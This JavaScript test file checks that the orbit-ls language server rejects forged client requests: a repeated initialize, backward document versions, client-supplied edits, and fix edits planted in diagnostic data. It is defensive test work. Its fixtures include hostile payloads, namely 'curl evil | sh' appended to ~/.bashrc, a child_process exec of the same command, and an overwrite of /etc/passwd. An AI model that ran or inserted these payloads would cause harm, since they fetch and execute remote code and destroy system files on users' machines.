// A client that sends what no honest editor would: a second initialize, a change that goes back in
// versions, an edit of its own through orbit-ls.applyEdit, fixes of its own in diagnostic.data.
// orbit-ls refuses each, says so, and the session goes on.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { startSession, fakeWorker, applyEdits, editsFor } = require('./lsp-harness');

const URI = 'file:///work/app/handler.js';
const workerFilename = fakeWorker();

test('a second initialize is answered with an error, and the first session keeps working on one pool', async () => {
  const s = await startSession({ workerFilename });
  await assert.rejects(
    s.client.sendRequest('initialize', { processId: null, rootUri: null, capabilities: {} }),
    (/** @type {import('vscode-jsonrpc').ResponseError<unknown>} */ err) => err.code === -32600 && /already initialized/.test(err.message),
  );
  await s.open(URI, 'VULN');
  assert.equal((await s.diagnostics(URI, 1)).length, 1);
  assert.equal(s.logs.filter((l) => /analysing with \d+ worker thread/.test(l.message)).length, 1, 'one pool was started');
  await s.stop();
});

test('a didChange whose version goes back is ignored with a log line, and never published', async () => {
  const s = await startSession({ workerFilename, initializationOptions: { debounceMs: 0 } });
  await s.open(URI, 'VULN');
  await s.diagnostics(URI, 1);
  await s.change(URI, 5, [{ text: 'VULN VULN' }]);
  assert.equal((await s.diagnostics(URI, 5)).length, 2);
  await s.change(URI, 3, [{ text: 'nothing here' }]);
  await s.change(URI, 5, [{ text: 'nothing here either' }]);
  // A later, honest change applies on top of version 5's text, not the rejected ones.
  await s.change(URI, 6, [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: ' ' }]);
  assert.equal((await s.diagnostics(URI, 6)).length, 2);
  assert.deepEqual(s.publishedFor(URI).map((p) => p.version), [1, 5, 6]);
  assert.ok(s.logs.some((l) => /ignored a change to file:\/\/\/work\/app\/handler\.js with version 3: the document is already at version 5/.test(l.message)));
  await s.stop();
});

/** A session whose client runs quick fixes as Commands, recording what the server asks it to apply. */
async function commandSession() {
  const s = await startSession({ workerFilename, capabilities: { workspace: { applyEdit: true } }, initializationOptions: { debounceMs: 0 } });
  const applied = [];
  s.client.onRequest('workspace/applyEdit', (p) => {
    applied.push(p);
    return { applied: true };
  });
  return { s, applied };
}

test('orbit-ls.applyEdit refuses an edit passed by the client, e.g. creating /etc/passwd', async () => {
  const { s, applied } = await commandSession();
  await s.open(URI, 'VULN');
  await s.diagnostics(URI, 1);
  const forged = [
    ['Fix', { documentChanges: [{ kind: 'create', uri: 'file:///etc/passwd', options: { overwrite: true } }] }],
    ['Fix', { changes: { 'file:///home/user/.bashrc': [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: 'curl evil | sh\n' }] } }],
    ['Fix', { changes: { [URI]: [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 4 } }, newText: 'anything' }] } }],
    ['not-a-token'],
    [],
  ];
  for (const args of forged) {
    const result = await s.client.sendRequest('workspace/executeCommand', { command: 'orbit-ls.applyEdit', arguments: args });
    assert.equal(result.applied, false, `refused: ${JSON.stringify(args)}`);
  }
  assert.deepEqual(applied, [], 'nothing was forwarded to the editor');
  assert.ok(s.logs.some((l) => /token of a quick fix orbit-ls offered/.test(l.message)));
  await s.stop();
});

test('an applyEdit token works once, and not after its document changed', async () => {
  const { s, applied } = await commandSession();
  await s.open(URI, 'VULN');
  const [d] = await s.diagnostics(URI, 1);
  const ask = async () => (await s.client.sendRequest('textDocument/codeAction', { textDocument: { uri: URI }, range: d.range, context: { diagnostics: [d] } }))[0];
  const first = await ask();
  assert.equal(first.arguments.length, 1);
  assert.equal(typeof first.arguments[0], 'string', 'the command carries a token, not the edit');
  assert.ok(!JSON.stringify(first.arguments).includes('SAFE'));
  const run = (command) => s.client.sendRequest('workspace/executeCommand', { command: command.command, arguments: command.arguments });
  assert.deepEqual(await run(first), { applied: true });
  assert.equal(applyEdits('VULN', editsFor(applied[0].edit, URI)), 'SAFE');
  assert.equal((await run(first)).applied, false, 'a token is spent once used');
  const second = await ask();
  await s.change(URI, 2, [{ text: 'x VULN' }]);
  const stale = await run(second);
  assert.equal(stale.applied, false);
  assert.match(stale.message, /at version 2, not 1/);
  assert.equal(applied.length, 1);
  await s.stop();
});

test('fix edits forged in diagnostic.data are never used: the fix is the one the server made', async () => {
  const s = await startSession({ workerFilename, initializationOptions: { debounceMs: 0 } });
  await s.open(URI, 'VULN');
  const [d] = await s.diagnostics(URI, 1);
  const hostile = {
    ...d,
    data: {
      ...d.data,
      fixes: [{ title: 'Replace VULN', edits: [{ range: { start: { line: 0, character: 0 }, end: { line: 99999, character: 0 } }, newText: 'x'.repeat(1_000_000) }] }],
      suppress: { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: 'require("child_process").exec("curl evil | sh");\n' },
    },
  };
  const actions = await s.client.sendRequest('textDocument/codeAction', { textDocument: { uri: URI }, range: d.range, context: { diagnostics: [hostile] } });
  const preferred = actions.find((a) => a.isPreferred);
  assert.equal(applyEdits('VULN', editsFor(preferred.edit, URI)), 'SAFE');
  for (const a of actions) {
    assert.ok(!JSON.stringify(a.edit).includes('curl evil'), `no forged text in "${a.title}"`);
    assert.deepEqual(Object.keys(a.edit.changes ?? {}).concat((a.edit.documentChanges ?? []).map((c) => c.textDocument.uri)), [URI]);
  }
  // A diagnostic the server never published (another range) gets no fix at all.
  const invented = { ...hostile, range: { start: { line: 0, character: 1 }, end: { line: 0, character: 3 } } };
  const none = await s.client.sendRequest('textDocument/codeAction', { textDocument: { uri: URI }, range: invented.range, context: { diagnostics: [invented] } });
  assert.deepEqual(none, []);
  await s.stop();
});
